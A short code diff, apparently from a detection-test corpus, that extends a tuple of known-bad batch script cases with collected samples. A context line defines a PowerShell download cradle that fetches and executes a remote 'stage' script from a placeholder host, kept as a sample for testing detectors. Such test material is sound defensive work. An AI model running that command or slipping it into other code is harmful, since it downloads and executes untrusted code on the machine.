@@ -5,6 +5,7 @@ from __future__ import annotations
 import base64
 
 from tools.corpus.detections.case import Case, script
+from tools.corpus.detections.collected import scripts
 
 _FETCH = "IEX (New-Object Net.WebClient).DownloadString('http://cdn.example/stage')"
 _ALPHABET = "qwertyuiopasdfghjklzxcvbnm:/.-_ 0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ"
@@ -171,4 +172,7 @@ _TEXTS: tuple[tuple[str, str, str], ...] = (
     ),
 )
 
-CMD_BAD: tuple[Case, ...] = tuple(script(name, "batch", text, rule) for name, text, rule in _TEXTS)
+CMD_BAD: tuple[Case, ...] = (
+    *(script(name, "batch", text, rule) for name, text, rule in _TEXTS),
+    *scripts("cmd_bad"),
+)
